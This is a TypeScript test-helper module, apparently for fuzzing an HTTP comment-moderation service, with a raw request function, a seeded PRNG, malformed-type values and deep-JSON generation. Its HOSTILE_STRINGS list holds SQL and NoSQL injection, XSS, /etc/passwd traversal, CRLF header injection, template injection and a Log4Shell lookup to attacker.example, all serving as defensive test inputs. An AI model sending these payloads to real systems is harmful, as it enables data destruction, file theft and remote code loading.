import { request } from 'node:http';

export interface RawResponse {
  status: number;
  body: string;
  headers: Record<string, string | string[] | undefined>;
}

/** Sends bytes as they are (invalid UTF-8, odd headers included), unlike fetch. */
export function rawRequest(
  url: string,
  options: { method?: string; headers?: Record<string, string>; body?: Buffer | string } = {},
): Promise<RawResponse> {
  const target = new URL(url);
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: target.hostname,
        port: target.port,
        path: target.pathname + target.search,
        method: options.method ?? 'POST',
        // A fresh connection each time: a refused request may close its socket.
        agent: false,
        headers: options.headers,
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () =>
          resolve({
            status: res.statusCode ?? 0,
            body: Buffer.concat(chunks).toString('utf8'),
            headers: res.headers,
          }),
        );
      },
    );
    req.on('error', reject);
    if (options.body !== undefined) req.write(options.body);
    req.end();
  });
}

/** A small deterministic PRNG, so a failing fuzz case can be replayed from its seed. */
export function prng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE moderation.comments; --",
  '" OR ""="',
  '{"$gt": ""}',
  '{"$where": "sleep(1000)"}',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '\u0000\u0001\u0002',
  '\uD800',
  '𝕿𝖍𝖊 🦄 unicode',
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie: x=y',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  'a'.repeat(100_000),
];

export const WRONG_TYPES: unknown[] = [null, 0, -1, 1e308, true, [], {}, [1, 2], { a: 1 }, '', ' ', 'x'];

/** JSON nested `depth` levels deep: [[[[...]]]]. */
export function deepJson(depth: number): string {
  return '['.repeat(depth) + ']'.repeat(depth);
}
